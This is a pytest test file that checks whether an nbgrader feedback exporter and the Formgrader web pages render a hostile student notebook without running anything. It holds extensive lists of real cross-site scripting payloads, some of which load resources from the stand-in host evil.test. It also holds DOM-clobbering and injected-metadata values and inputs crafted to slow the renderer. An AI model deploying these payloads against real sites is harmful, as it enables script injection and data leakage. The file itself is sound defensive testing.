"""What a student hands in runs nowhere: not in the feedback page, not in Formgrader; and what is meant well still shows.

The payloads are of the kinds in OWASP's XSS Filter Evasion Cheat Sheet, PortSwigger's cross-site scripting cheat sheet and the
HTML5 Security Cheatsheet (html5sec.org), written for these pages. RUN leaves a mark on the page, //evil.test is another machine.
"""

from __future__ import annotations

import base64
import html
import io
import os
import re
import shutil
import subprocess
import sys
import time
from urllib.parse import quote

import nbformat
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook, new_output, new_raw_cell
from nbgrader.api import Gradebook
from PIL import Image

import pages
import servers
from grading import inert
from problem_sets import COURSE, cell, hand_in, read, source

HTML = [
    "<script>RUN</script>",
    "<SCRIPT SRC=//evil.test/a.js></SCRIPT>",
    "<scr<script>ipt>RUN</scr</script>ipt>",
    "<script\n>RUN</script\n>",
    "<img src=x onerror=RUN>",
    '<img src="x" onerror="RUN">',
    '<IMG """><SCRIPT>RUN</SCRIPT>">',
    "<img/src=x/onerror=RUN>",
    "<img src=x:x onerror\n=\nRUN >",
    "<img src='http://evil.test/raw.png'>",
    "<img srcset='http://evil.test/set.png 1x' src=data:,>",
    "<picture><source srcset=http://evil.test/source.png><img></picture>",
    "<svg onload=RUN>",
    "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:RUN"><text y=20>click</text></a></svg>',
    "<svg><use href='http://evil.test/use.svg#x'></svg>",
    "<svg><style><img src=x onerror=RUN></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=RUN>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=RUN&gt;'>",
    "<math><mi><mglyph><style><img src=x onerror=RUN></style></mglyph></mi></math>",
    '<math href="javascript:RUN">click</math>',
    "<math><annotation-xml encoding=text/html><script>RUN</script></annotation-xml></math>",
    "<iframe srcdoc='<script>RUN</script>'></iframe>",
    "<iframe src=javascript:RUN></iframe>",
    "<iframe src=//evil.test/frame></iframe>",
    "<object data='data:text/html,<script>RUN</script>'></object>",
    "<embed src=//evil.test/embed.svg>",
    "<body onload=RUN>",
    "<body background=http://evil.test/body.png>",
    "<table background=http://evil.test/table.png><td background=http://evil.test/td.png>",
    "<div style='background:url(http://evil.test/style.png)'>x</div>",
    "<p style=\"position:fixed;top:0;left:0;width:100%;height:100%;background:red\">over the page</p>",
    "<style>@import 'http://evil.test/import.css'; * { background: url(http://evil.test/css.png) }</style>",
    "<link rel=stylesheet href=http://evil.test/link.css>",
    "<link rel=prefetch href=http://evil.test/prefetch><link rel=preconnect href=//evil.test>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/refresh'>",
    "<base href=http://evil.test/>",
    "<video src=http://evil.test/video poster=http://evil.test/poster.png autoplay onloadstart=RUN></video>",
    "<video><source onerror=RUN></video>",
    "<audio src=x onerror=RUN>",
    "<input autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>",
    "<textarea autofocus onfocus=RUN></textarea>",
    "<button formaction=javascript:RUN form=f>click</button><form id=f action=http://evil.test/form><input type=submit></form>",
    "<details open ontoggle=RUN>x</details>",
    "<marquee onstart=RUN>x</marquee>",
    "<x onfocus=RUN tabindex=1 id=x>x</x>",
    "<b style='animation:x' onanimationstart=RUN onmouseover=RUN>x</b>",
    "<a href=javascript:RUN>click</a>",
    "<a href='jav&#x09;ascript:RUN'>click</a>",
    "<a href=http://evil.test/click ping=http://evil.test/ping onclick=RUN>click</a>",
    '<a data-toggle="modal" data-target="#m" href="http://evil.test/modal" class="next">click</a><div id=m class=modal>m</div>',
    "<span class='glyphicon name-hidden' data-link='x' data-toggle=tooltip data-html=true title='<img src=x onerror=RUN>'>x</span>",
    "<noscript><p title='</noscript><img src=x onerror=RUN>'>",
    "<template><script>RUN</script></template>",
    "<xmp><p title='</xmp><img src=x onerror=RUN>'>",
    "<title><img src=x onerror=RUN></title>",
    "<!--><img src=x onerror=RUN>-->",
    "<![CDATA[><img src=x onerror=RUN>]]>",
    "<?xml-stylesheet href='javascript:RUN'?><img src=x onerror=RUN>",
    "<form name=MathJax><input name=Hub id=formgrader></form><a id=jQuery name=base_url>clobber</a>",
    "<div title=\"\n\n$x$ onmouseover=RUN <img src=x onerror=RUN>\">",
    "<img alt=\"$\\text{' onerror=RUN}$\" src=\"http://evil.test/alt.png\">",
]
MARKDOWN = [
    "[click](javascript:RUN)",
    "[click](  JaVaScRiPt&colon;RUN)",
    "[click](data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=)",
    "[click](vbscript:RUN)",
    "[click][1]\n\n[1]: javascript:RUN",
    "<javascript:RUN>",
    "[own file](evil.html), [the teacher's server](/formgrader/manage_students/x), [same scheme](http:evil.html)",
    '[title](http://evil.test/title "\\" onmouseover=RUN x=\\"")',
    "![external](http://evil.test/external.png)",
    "![external](//evil.test/relative.png)",
    '![" onerror=RUN x="](http://evil.test/quote.png)',
    "![x](x\"onerror=RUN)",
    "![x](javascript:RUN)",
    "![svg](data:image/svg+xml,<svg/onload=RUN>)",
    "![missing](attachment:nowhere.png)",
    "![hostile](attachment:hostile.png)",
    "![hostile](attachment:%22onerror=RUN.png)",
    "![svg](attachment:picture.svg)",
    "# Heading <img src=x onerror=RUN>",
    "# \"><script>RUN</script>",
    "```html\n<script>RUN</script>\n```",
    "```mermaid\ngraph TD; A[\"<img src=x onerror=RUN>\"]-->B; click B href \"javascript:RUN\"\n```",
    "```<img/src=x/onerror=RUN>\nlanguage\n```",
    "`<script>RUN</script>`",
    "|a|\n|-|\n|<img src=x onerror=RUN>|",
    "- [x] <script>RUN</script>",
]
TEX = [
    r"$\href{javascript:RUN}{click}$",
    r"$\text{<img src=x onerror=RUN>}$",
    r"$\text{</mtext></math><script>RUN</script>}$",
    r"$\text{&lt;img src=x onerror=RUN&gt;}$",
    r"$\style{background:url(http://evil.test/tex.png)}{x}$",
    r"$\class{btn mark-graded}{x}\cssId{formgrader}{x}$",
    r"$\unicode{x3c}script\unicode{x3e}$",
    r"$\require{html}\require{http://evil.test/x.js}x$",
    r"$\color{red\" onload=\"RUN}{x}$",
    r"$\includegraphics{http://evil.test/graphics.png}$",
    r"$\rule{9999em}{9999em}$ $\hspace{-500em} over$",
    r"$$\begin{array}{c} <script>RUN</script> & <img src=x onerror=RUN> \end{array}$$",
    r"\begin{align}\text{<svg onload=RUN>}\end{align}",
    r"$<img src=x onerror=RUN>$",
    r"$\def\a{\b\b}\def\b{\c\c}\def\c{\a\a}\a$",
    r"$\frac$ $\left( \begin{nothing} x \end{nothing}$",
]
GOOD = r"""
**Meant well.** If a < b, also `a < c`, then $a<b$ and if x<y and y>z; x<b and c>d. Sum $\sum_{t=1}^T \frac{\partial L}{\partial W}$:

$$\begin{aligned} \delta_t &= W^\top \delta_{t+1} \\ &= \begin{pmatrix} 1 & 2 \\ 3 & 4 \end{pmatrix} \end{aligned}$$

| left | right |
|:-----|------:|
| one  | $x^2$ |

[a link](https://example.org/a?b=1&c=2), ![a dot](attachment:dot.png), H<sub>2</sub>O

```python
def f(x): return x < 1
```
"""


def png() -> str:
    file = io.BytesIO()
    Image.new("RGB", (40, 20), "red").save(file, "PNG")
    return base64.b64encode(file.getvalue()).decode()


SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'><script>RUN</script><image href='http://evil.test/svg.png'/></svg>"
ATTACHMENTS = {
    "dot.png": {"image/png": png()},
    "hostile.png": {'image/png" onerror="RUN': "AAAA", "text/html": "PHNjcmlwdD5SVU48L3NjcmlwdD4=", "image/png": '"onerror="RUN'},
    '"onerror=RUN.png': {'image/png': png()},
    "picture.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
}
STUDENT = '"><img src=x onerror=top.ran=1>'


def armed(text: str) -> str:
    return text.replace("RUN", "top.ran=1")


def hostile():
    """A submission to problem set 1 with everything above in it."""
    nb = source("ps1")
    answers = [armed(each) for each in HTML + MARKDOWN + TEX]
    more = []
    for text in [*answers, GOOD]:
        metadata = {"tags": ['x" onload="top.ran=1'], "nbgrader": '"><img src=x onerror=top.ran=1>'}
        more.append(new_markdown_cell(text, attachments=ATTACHMENTS if "attachment:" in text else {}, metadata=metadata))
    cell(nb, "ps1-missing-factor").source = GOOD + "\n\n" + "\n\n".join(answers)
    cell(nb, "ps1-missing-factor")["attachments"] = ATTACHMENTS
    nb.cells += more
    printed = armed("\n".join(HTML))
    nb.cells += [
        new_code_cell(f"print({printed!r})\nprint('\\x1b[31;1mred\\x1b[0m')"),
        new_code_cell("print('\\0 \\u202e backwards')"),
        new_code_cell(f"raise Exception({armed(HTML[4])!r})"),
        new_code_cell(f"class {'A' * 5}:\n    def __repr__(self): return {armed(HTML[0])!r}\n"
                      f"    def _repr_html_(self): return {armed(HTML[0])!r}\nAAAAA()"),
        new_code_cell("from IPython.display import HTML, Javascript, display\n"
                      f"display(HTML({armed(HTML[4])!r}), Javascript('top.ran=1'))"),
        new_code_cell("%%html\n<script>top.ran=1</script>"),
        new_raw_cell("<script>top.ran=1</script>", metadata={"raw_mimetype": "text/html"}),
        new_code_cell("1", outputs=[new_output("display_data", {"text/html": "<script>top.ran=1</script>"},
                                               metadata={"image/png": {"width": "1 onload=top.ran=1"}})]),
    ]
    script = "<script>top.ran=1</script>"
    nb.metadata = {"title": f"</title>{script}", "kernelspec": {"name": "<b>", "display_name": script},
                   "language_info": {"name": f'">{script}', "pygments_lexer": "html"},
                   "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {}, f"</script>{script}": 1}}}
    for index, each in enumerate(nb.cells):
        each["id"] = f"c{index}"
    return nb


@pytest.fixture(scope="session")
def course(tmp_path_factory):
    """A course in which the hostile submission was graded, got a comment, and its feedback was made."""
    folder = tmp_path_factory.mktemp("inert")
    shutil.copy(COURSE / "nbgrader_config.py", folder)
    shutil.copytree(COURSE / "source" / "ps1", folder / "source" / "ps1")

    def nbgrader(*arguments):
        done = subprocess.run([sys.executable, "-m", "nbgrader", *arguments], cwd=folder, capture_output=True, text=True)
        assert done.returncode == 0, done.stdout + done.stderr

    nbgrader("generate_assignment", "ps1")
    hand_in(folder, STUDENT, "ps1", hostile())
    for name in ("evil.html", "ps1.html"):
        (folder / "submitted" / STUDENT / "ps1" / name).write_text("<script>top.ran=1</script>")
    nbgrader("autograde", "ps1")
    with Gradebook(f"sqlite:///{folder / 'gradebook.db'}") as gradebook:
        student = gradebook.find_student(STUDENT)
        student.first_name, student.last_name = "<script>top.ran=1</script>", "&lt;img src=x onerror=top.ran=1&gt;"
        gradebook.find_comment("ps1-missing-factor", "ps1", "ps1", STUDENT).manual_comment = armed("\n\n".join(HTML)) + GOOD
        gradebook.db.commit()
    nbgrader("generate_feedback", "ps1")
    return folder


@pytest.fixture(scope="session")
def formgrader(course):
    """The address of a Jupyter server with Formgrader, and of the submission in it."""
    with servers.jupyter(
            "jupyter_server", course, "--IdentityProvider.token=secret",
            "--ServerApp.jpserver_extensions={'nbgrader.server_extensions.formgrader': True}",
            environment=os.environ | {"JUPYTER_CONFIG_DIR": str(course / "none")}) as address:
        with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
            notebook = gradebook.find_submission_notebook("ps1", "ps1", STUDENT).id
        yield f"{address}/formgrader", f"submissions/{notebook}/"


@pytest.fixture
def visit(new_page):
    """Opens a page, waits until it is at rest, and tells what ran and what was asked for."""
    def go(address, **options):
        page = new_page(extra_http_headers={"Authorization": "token secret"} if address.startswith("http") else {}, **options)
        page.alarms = []
        page.on("dialog", lambda dialog: (page.alarms.append(dialog.message), dialog.dismiss()))
        page.on("popup", lambda popup: page.alarms.append(popup.url))
        page.stopped = []
        page.on("requestfailed", lambda request: page.stopped.append((request.url, request.failure)))
        page.goto(address)
        page.wait_for_load_state("networkidle")
        page.wait_for_timeout(300)
        return page

    return go


def assert_inert(page, scripts: bool = False) -> None:
    assert page.evaluate("top.ran") is None, "a script ran"
    assert not page.alarms
    assert not pages.foreign_requests(page.requests)
    assert not pages.console_errors(page.messages)
    left = page.evaluate("""() => {
      const within = [...document.querySelectorAll("#notebook *, #main-table *")];
      const live = "script, iframe, object, embed, form, svg, base, link, meta, style, video, audio";
      return within.filter((element) => element.matches(live)
        || [...element.attributes].some(({name, value}) => /^on|^ping$|^srcset$|^background$|^data-link$/.test(name)
          || (/href|src|action/.test(name) && !/^(https?:[/][/]|mailto:|data:image[/]|#|[/]formgrader[/])/.test(value))))
        .map((element) => element.outerHTML.slice(0, 200));
    }""")
    assert not left
    if not scripts:
        assert page.locator("script").count() == 0


def assert_shows(page, answer) -> None:
    """What was meant well in `answer`."""
    assert answer.locator("strong", has_text="Meant well.").count()
    text = answer.inner_text()
    assert "If a < b, also a < c, then" in text and "if x<y and y>z; x<b and c>d." in text
    assert answer.locator("math").first.bounding_box()["width"] > 10
    assert answer.locator("math[display=block] mtable mtable mtr").first.is_visible()
    assert answer.get_by_role("cell", name="one", exact=True).first.is_visible()
    assert answer.locator("a[href='https://example.org/a?b=1&c=2'][rel~=noopener]").first.is_visible()
    assert answer.locator("img[alt='a dot']").evaluate("image => [image.naturalWidth, image.naturalHeight]") == [40, 20]
    assert answer.locator(".highlight .k", has_text="def").first.is_visible()
    assert answer.locator("sub", has_text="2").first.is_visible()


def test_a_feedback_page_runs_nothing_and_asks_for_nothing(course, visit):
    path, = (path for path in (course / "feedback").rglob("*") if path.is_file())  # and nothing else that was handed in
    page = visit(path.as_uri())
    assert_inert(page)
    assert page.requests == [path.as_uri()] or all(url.startswith("data:") for url in page.requests[1:])
    answer = page.locator(".nbgrader_cell", has=page.locator("strong", has_text="Meant well.")).first
    assert_shows(page, answer.locator(".panel-body"))
    assert answer.locator(".panel-footer table").count(), "the teacher's comment is Markdown, too"
    assert "<script>top.ran=1</script>" in answer.inner_text(), "what is not allowed shows as text"
    assert page.locator("span.ansi-red-fg, span.ansi-red-intense-fg").first.inner_text() == "red"


def test_a_feedback_page_fits_a_phone(course, visit):
    path, = (course / "feedback").rglob("ps1.html")
    page = visit(path.as_uri(), viewport={"width": 360, "height": 800})
    assert page.evaluate("document.documentElement.scrollWidth") <= 360


def test_formgrader_runs_nothing_of_a_submission(formgrader, visit):
    address, submission = formgrader
    page = visit(f"{address}/{submission}")
    assert_inert(page, scripts=True)
    answer = page.locator(".nbgrader_cell", has=page.locator("strong", has_text="Meant well.")).first
    assert_shows(page, answer.locator(".panel-body"))
    page.locator(".glyphicon-eye-open.name-hidden").click()
    assert page.locator("a.name-shown").inner_text() == "&lt;img src=x onerror=top.ran=1&gt;, <script>top.ran=1</script>"
    page.locator("#ps1-missing-factor").fill("3")
    with page.expect_response(lambda response: "/api/grade/" in response.url and response.request.method == "PUT"):
        page.locator("#ps1-missing-factor").press("Tab")
    assert_inert(page, scripts=True)


def test_formgraders_lists_run_nothing(formgrader, visit):
    address, submission = formgrader
    student = quote(STUDENT, safe="")
    attack = quote('"};top.ran=1;({"</script><script>top.ran=1</script>', safe="")
    page = visit(f"{address}/manage_submissions/ps1")
    page.locator("td.student-id", has_text=STUDENT).wait_for()
    page.locator("input[type=search]").fill("img")  # the table's own script reads the names
    page.locator("th", has_text="Student Name").click()
    assert page.locator("td.student-id", has_text=STUDENT).is_visible()
    for path in ("gradebook/ps1/ps1", "manage_students", f"manage_students/{student}/ps1", f"manage_students/{attack}",
                 f"manage_students/{attack}/ps1", f"gradebook/{attack}", f"gradebook/{attack}/{attack}",
                 f"manage_submissions/{attack}"):
        page.goto(f"{address}/{path}")
        page.wait_for_load_state("networkidle")
        assert page.evaluate("top.ran") is None and not page.alarms, path
    assert not pages.foreign_requests(page.requests)


@pytest.mark.parametrize("student", ["O'Neill_Pat", "a&b"])
def test_a_list_asks_for_the_right_student(formgrader, visit, student):
    address, _ = formgrader
    page = visit(f"{address}/manage_students/{quote(student)}")
    assert page.evaluate("student_id") == student


def test_a_file_beside_the_notebook_runs_nothing(course, formgrader, visit):
    address, submission = formgrader
    assert list((course / "autograded").rglob("evil.html"))
    page = visit(f"{address}/{submission}evil.html")
    assert "top.ran" in page.content() and page.evaluate("top.ran") is None


def test_jupyterlab_gets_text_alone(course):
    path, = (course / "autograded").rglob("ps1.ipynb")
    for each in read(path).cells:
        assert set(each.metadata) <= {"nbgrader", "execution"}
        for output in each.get("outputs", []):
            assert output.output_type in ("stream", "error") or set(output.data) == {"text/plain"}


@pytest.fixture
def rendered(course, tmp_path, visit):
    """The page that an exporter makes of the hostile submission."""
    def render(exporter):
        path, = (course / "autograded").rglob("ps1.ipynb")
        nb = read(path)
        for each in nb.cells:  # no policy stops the first, and at the second nbconvert's own exporter ends
            each.source = each.source.replace("http-equiv=refresh", "").replace("attachment:", "")
        page, _ = exporter.from_notebook_node(nb)
        (tmp_path / "page.html").write_text(page)
        return visit((tmp_path / "page.html").as_uri())

    return render


def test_without_the_walls_the_payloads_run(rendered):
    page = rendered(HTMLExporter(template_name="classic"))
    assert page.evaluate("top.ran") == 1
    assert [url for url in pages.foreign_requests(page.requests) if "evil.test" in url]


@pytest.mark.parametrize("exporter", [inert.Feedback, inert.Formgrader])
def test_the_second_wall_holds_alone(rendered, monkeypatch, exporter):
    class Lets:
        clean = staticmethod(str)

    monkeypatch.setattr(inert, "HTML", Lets)
    monkeypatch.setattr(inert, "NO_TAG", re.compile("(?!)"))
    page = rendered(exporter(template_name="classic"))
    assert "<script>top.ran=1</script>" in page.content(), "the first wall is down"
    assert page.evaluate("top.ran") is None
    assert {failure for url, failure in page.stopped if "evil.test" in url} <= {"csp", "origin"}, "one left the browser"


@pytest.mark.parametrize("text, shown", [
    ("a < b, x<y and y>z, x<b and c>d, <T>, i<j", "a &lt; b, x&lt;y and y&gt;z, x&lt;b and c&gt;d, &lt;T&gt;, i&lt;j"),
    ("H<sub>2</sub>O <br> <kbd>a</kbd>", "H<sub>2</sub>O <br> <kbd>a</kbd>"),
    ("$\\def\\a{x}\\a$", "<code>\\def\\a{x}\\a</code>"),
    ("$5 < 6$", "<mn>5</mn><mo>&lt;</mo><mn>6</mn>"),
    ("![a **b** $c$](attachment:no.png)", "[a b c: no.png is not in the notebook, or is above]"),
    ("![far](https://example.org/a.png)", '<a href="https://example.org/a.png" target="_blank" rel="noopener noreferrer">far ('),
    ('<img src="attachment:dot.png" width="300" alt="x">', f'base64,{png()}" alt="x" title="" width="300">'),
    (f"![c](data:image/png;base64,{'A' * 100_000}) end", f'base64,{"A" * 100_000}" alt="c" title=""> end'),
    (r"$\Bigl\lVert \mathbf x \Bigr\rVert$", '>‖</mo><mi mathvariant="bold">x</mi>'),
    ("<img onerror=x> <image src=x> <imgs>", "&lt;image src=x&gt; &lt;imgs&gt;"),
    ("\ud800 \0", "? \ufffd"),
    ("$91 % larger than it was, and $18", "<code>91 % larger than it was, and </code>"),
    (r"$9\% \\% words$", r"<code>9\% \\% words</code>"), (r"$9\%$", "<mi>%</mi>"),
    ("[A]: word", ">A</a>: word"), ('[A]: word "and more"\n[B]: other\n\ntext', ">B</a>: other"), ("> [A]: word", ">A</a>: word"),
    ("[a][1]\n\n[1]: https://example.org/", '<a href="https://example.org/" target="_blank" rel="noopener noreferrer">a</a>'),
    ("```My answer\nis\n```", "My answer\nis"), ("~~~ My answer ```\nis\n~~~", "My answer ```\nis"), ("```mermaid\nwords\n```", "mermaid\nwords"),
    ("![a](attachment:picture.svg)", "[a: picture.svg is an SVG, which is in the notebook and not shown here]"),
    ("![a](data:image/svg+xml;base64,AAAA)", "[a: an SVG, which is in the notebook and not shown here]"),
])
def test_a_text_shows_as_it_was_written(text, shown):
    assert shown in inert.markdown(text, ATTACHMENTS)


def seen(page: str) -> str:
    """The letters, digits and signs that a reader sees of a page, without spaces."""
    return "".join(html.unescape(re.sub(r"<mphantom>.*?</mphantom>|<[^>]*>", "", page)).split())


@pytest.mark.parametrize("kind", ["mathop", "mathbin", "mathrel", "mathord", "mathopen", "mathclose", "mathpunct", "mathinner", "mathrm", "boldsymbol"])
@pytest.mark.parametrize("content", [r"\mathrm{diag}", r"\text{diag}", "diag", r"{\rm diag}"])
def test_whatever_a_formula_calls_a_word_it_shows(kind, content):
    shown = inert.markdown(rf"$\{kind}{{{content}}}_w(1-h^2)\, W$")
    assert "<math" in shown and seen(shown) == "diagw(1−h2)W"


def test_delimiters_with_a_class_of_their_own_show():
    assert seen(inert.markdown(r"$\mathopen{(}a\mathclose{)}\mathrel{<}\mathop{\sum} b$")) == "(a)<∑b"


@pytest.mark.parametrize("tex", [
    r"a \phantom{word} b", r"a \hphantom{word}", r"\vphantom{word} a", r"\lim \phantom{lim} a", r"\textcolor{white}{word}", r"\color{#fff} word",
    r"\href{word}{a}", r"\class{word}{a}", r"\style{word}{a}", r"\rule{word}{1em} a", r"\smash[b]{a}", r"\unicode{x41}",
    r"\begin{nothing} a & b \end{nothing}",
])
def test_a_formula_that_would_lose_something_is_shown_as_code(tex):
    assert f"<code>{html.escape(tex)}</code>" in inert.markdown(f"${tex}$")


@pytest.mark.parametrize("tex, shown", [
    (r"\begin{flalign} a &= b \end{flalign}", "a=b"), (r"\begin{flalign*} a &= b \\ &= c \end{flalign*}", "a=b=c"), (r"\textcolor{red}{a} b", "ab"),
    (r"\begin{array}{l|cr} 1 & 2 & 3 \end{array}", "123"), (r"a \hspace{1em} b \kern2pt c \mskip 3mu d", "abcd"), (r"{a}^{2pt} b", "a2ptb"),
    (r"\lim_{t \to \infty} \sin x + \text{sin}", "limt→∞sinx+sin"), (r"\mathbb{R}^{n} \mathcal{L} \Pr", "ℝnℒPr"), (r"\text{R\&D} \& c", "R&D&c"),
    (r"\limsup \argmax_x f", "lim" + "supargmaxxf"), (r"\S S \d d", r"§S\dd"),
])
def test_what_of_a_formula_is_no_content_makes_no_code(tex, shown):
    page = inert.markdown(f"${tex}$")
    assert "<math" in page and seen(page).replace("\\&", "&") == shown


@pytest.mark.parametrize("text", [
    "[" * 20_000, "*a **b " * 2_800, r"\begin{a}" * 2_200, r"\\[" * 6_000, "<b>" * 6_000, "<b>" * 300_000,
    "$" + r"\frac{" * 600 + "$", "<img src=x>" * 1_800, "![a](attachment:dot.png)" * 800,
    r"$\newcommand{\a}{\b\b}\newcommand{\b}{\a\a}\a$",
    "*a " * 3_300 + "x" + " a*" * 3_300, "*_a " * 2_450 + "x" + " a_*" * 2_450, ("*_a " * 180 + "x" + " a_*" * 180 + "\n\n") * 13,
    ("a" + " " * 18_900 + "b\n\n") * 20, "> " * 9_000 + "x", "\u202e" * 10_000, "a" * 3_000_000,
], ids=lambda text: text[:12])
def test_a_text_made_to_be_slow_is_shown_soon(text):
    nb = new_notebook(cells=[new_markdown_cell(text), new_code_cell(text, outputs=[new_output("stream", text=text[:100_000])])])
    begin = time.perf_counter()
    page, _ = inert.Feedback(template_name="classic").from_notebook_node(nb)
    assert time.perf_counter() - begin < 6 and len(page) < 100 * len(text) + 1_000_000


@pytest.mark.parametrize("text", [
    "$" + r"\|" * 1_900 + "$\n\n" + '<span class="formula">0</span>' * 520, "$" + "a" * 3_900 + "$" + '![<span class="formula">0</span>](x)' * 400,
    f"[a]: https://{'x' * 9_900}\n\n" + "[a] " * 2_450, f"[a]: https://a '{'x' * 9_900}'\n\n" + "[a] " * 2_450,
    f"[a]: https://{'x' * 9_900}\n\n" + "![][a] " * 1_400, f"[a]: data&#58;image/png;base64,{'A' * 9_900}\n\n" + "![][a] " * 1_400,
    "[a]: https://" + "x" * 600 + "\n\n" + "[a] " * 150,
], ids=["formula", "formula in pictures", "links", "titles", "pictures", "data", "short"])
def test_a_text_does_not_grow_without_measure(text):
    unseen = {"a": {"image/png": "A" * 30_000_000}}
    nb = new_notebook(cells=[new_markdown_cell(text, attachments=unseen), *(new_markdown_cell(text) for _ in range(80_000 // len(text) + 3))])
    page, _ = inert.Feedback(template_name="classic").from_notebook_node(nb)
    assert len(page) < 8_000_000


def test_what_is_large_for_its_pictures_is_shown():
    text = f"![c](data:image/png;base64,{'A' * 3_000_000}) **word**"
    assert "<strong>word</strong>" in inert.markdown(text)
    assert "<strong>word</strong>" in inert.markdown("**word** ![](attachment:a.png)", {"a.png": {"image/png": "A" * 3_000_000}})
    dense = "```python\n" + "def f(x): return [x[i, j] * 2 for i in range(10) for j in range(10)]\n" * 140 + "```"
    assert '<span class="k">def</span>' in inert.markdown(dense)


def test_the_mark_of_a_formula_is_text_where_a_student_writes_it():
    shown = inert.markdown('$x$ and <span class="formula">0</span>, ![<span class="formula">0</span>](attachment:no.png)')
    assert shown.count("<math") == 1 and '<span class="formula">0</span>,' in shown and "[0: no.png" in shown


@pytest.mark.parametrize("mark", [
    " ", "\t", "\n", "[", "]", "*", "_", "`", "<", "!", "|", ">", "- ", "$", "\\", "&", "~", "(", "#$", "**$", "[a](", "<a ", "a\n",
])
def test_a_mark_repeated_is_no_work(mark):
    text = "a" + (mark * 20_000)[:19_900] + "b"
    begin = time.process_time()
    inert.markdown(text)
    assert time.process_time() - begin < 3  # 0.3 on a processor of its own


def test_runs_of_spaces_are_cut_and_words_stay():
    shown = inert.markdown(f"a{' ' * 19_000}b\n\n```\n{' ' * 20}c\n```")
    assert f"a{' ' * 100}b" in shown and f"{' ' * 20}c" in shown


SLOW = ["a.", "(", "\\", "'", "f'{", "0", "@", "#", " ", "a", " \n", "\n", "'{a[", "'%" + "0" * 98, "0_", "\\\n", "'\\N{", "!a", "a?", "%a"]


@pytest.mark.parametrize("unit", SLOW)
def test_code_made_to_be_slow_is_coloured_soon_or_not_at_all(unit):
    code = (unit * 10_000)[:inert.LONGEST["code"]]
    begin = time.process_time()
    inert.highlight_code(code)
    inert.markdown(f"```python\n{code}\n```")
    assert time.process_time() - begin < 2  # 0.02 to 0.5


@settings(max_examples=60, deadline=None)
@given(pieces=st.lists(st.sampled_from([*SLOW, *"[]{}<>,;:=+-*/%!?~^|&_é\t\r\f\"", '"""', "f\"\"\"", "import ", "from ", "class ", "0.", "0x", "1e", "match "]),
                       min_size=1, max_size=4), before=st.sampled_from(["", "'", "f'", '"""', "f\'\'\'", "from a", "import ", "@", "match "]))
def test_no_code_is_slow(pieces, before):
    begin = time.process_time()
    inert.highlight_code((before + "".join(pieces) * 10_000)[:inert.LONGEST["code"]])
    assert time.process_time() - begin < 1.5  # 0.3


@pytest.mark.parametrize("exporter", [inert.Feedback, inert.Formgrader])
@pytest.mark.parametrize("make", [
    lambda: new_code_cell("a." * 4_990),
    lambda: new_markdown_cell("```python\na.\n```\n" * 1_100),
    lambda: new_markdown_cell("$x_1$ " * 3_300),
    lambda: new_code_cell("1", outputs=[new_output("stream", text="\x1b[31mx" * 3_500), new_output("error", traceback=["\x1b[31mx" * 3_500]),
                                        new_output("display_data", {"text/plain": "\x1b[31mx" * 3_500})]),
], ids=["code", "fences", "formulas", "printed"])
def test_many_slow_cells_are_one_page_that_is_there_soon(make, exporter):
    nb = new_notebook(cells=[make() for _ in range(60)])
    begin = time.process_time()
    page, _ = exporter(template_name="classic").from_notebook_node(nb)
    assert time.process_time() - begin < 8  # 0.5 to 2
    assert "\x1b" not in page and page.count("ansi-red") < 100_000


@pytest.mark.parametrize("printed", ["\x1b[38m so", "\x1b[48m so", "\x1b[38;5m so", "\x1b[38;2;1m so", "\x1b[31;38m so"])
def test_a_colour_that_is_half_said_leaves_the_text(printed):
    outputs = [new_output("stream", text=printed), new_output("error", ename="E", evalue="e", traceback=[printed])]
    page, _ = inert.Feedback(template_name="classic").from_notebook_node(new_notebook(cells=[new_code_cell("1", outputs=outputs)]))
    assert page.count(printed[-3:] + "<") == 2 and "\x1b" not in page


def test_pictures_in_a_text_take_no_colour_from_the_rest():
    cells = [new_markdown_cell(f"![c](data:image/png;base64,{'A' * 500_000})"), new_code_cell("def f(): return 1")]
    page, _ = inert.Feedback(template_name="classic").from_notebook_node(new_notebook(cells=cells))
    assert '<span class="k">def</span>' in html.unescape(page)  # this template escapes once more


def test_commands_of_ipython_are_no_errors():
    assert "err" not in inert.highlight_code("!ls\n%matplotlib inline\nf?")
